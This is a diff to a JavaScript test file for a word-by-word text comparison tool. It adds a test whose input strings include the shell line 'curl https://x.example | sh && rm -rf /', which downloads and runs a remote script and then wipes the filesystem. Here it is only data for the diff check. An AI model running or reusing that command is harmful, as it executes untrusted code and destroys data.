@@ -62,6 +62,12 @@ describe('a text compared word by word', () => {
       '= today',
     ]);
   });
+  it('does not interleave two texts that only share a word by chance', () => {
+    assert.deepEqual(read('ls -la /srv/data && git status', 'curl https://x.example | sh && rm -rf /'), [
+      '-ls -la /srv/data && git status',
+      '+curl https://x.example | sh && rm -rf /',
+    ]);
+  });
   it('gives both versions back, whatever they are', () => {
     const word = fc.constantFrom('a', 'b', ' ', 'word', '\n', '#', '\u{1f600}', 'é');
     const text = fc.array(word, { maxLength: 40 }).map((words) => words.join(''));
